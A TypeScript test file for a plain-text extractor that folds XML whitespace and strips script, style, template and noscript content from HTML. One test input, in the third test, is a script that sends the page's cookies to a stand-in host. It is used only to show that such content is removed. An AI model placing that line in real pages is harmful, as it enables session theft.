import assert from 'node:assert/strict';
import { test } from 'node:test';
import { literalText, plainText } from './plain-text.ts';

test('only XML whitespace folds: U+00A0 and other Unicode spaces are text', () => {
  assert.equal(literalText(' \t a \r\n  b \n'), 'a b');
  assert.equal(literalText('\u00a0a\u00a0 \u00a0b\u00a0'), '\u00a0a\u00a0 \u00a0b\u00a0');
  assert.equal(literalText('x\u3000y\u2009z'), 'x\u3000y\u2009z');
  assert.equal(plainText('<b>M.</b>&nbsp;Dupont'), 'M.\u00a0Dupont');
  assert.equal(literalText('   '), '');
});

test('folds every run of XML whitespace to one space, wherever it is', () => {
  const pieces = [' ', '  ', '\t', '\n', '\r\n', ' \n ', 'a', 'bc', '\u00a0', '中'];
  let seed = 13;
  for (let round = 0; round < 5000; round++) {
    let text = '';
    for (let index = 0; index < round % 12; index++) {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      text += pieces[seed % pieces.length];
    }
    // The definition: runs of space, tab, CR and LF become one space, then one at each end goes.
    const expected = text.replace(/[ \t\r\n]+/g, ' ').replace(/^ | $/g, '');
    assert.equal(literalText(text), expected, JSON.stringify(text));
  }
});

test('text a browser never shows (scripts, style sheets, templates) is not part of the plain text', () => {
  assert.equal(
    plainText('safe<script>location.href="http://x/"+document.cookie</script> description'),
    'safe description',
  );
  assert.equal(plainText('<style>b {color: red}</style>Title <b>bold</b>'), 'Title bold');
  assert.equal(plainText('a<template><p>hidden</p><template>x</template></template> b'), 'a b');
  // A script is raw text: a tag-like string inside it ends nothing.
  assert.equal(plainText('a <SCRIPT>var x = "</b>";</SCRIPT>b'), 'a b');
  assert.equal(plainText('one<noscript><b>two</b></noscript> three'), 'one three');
});
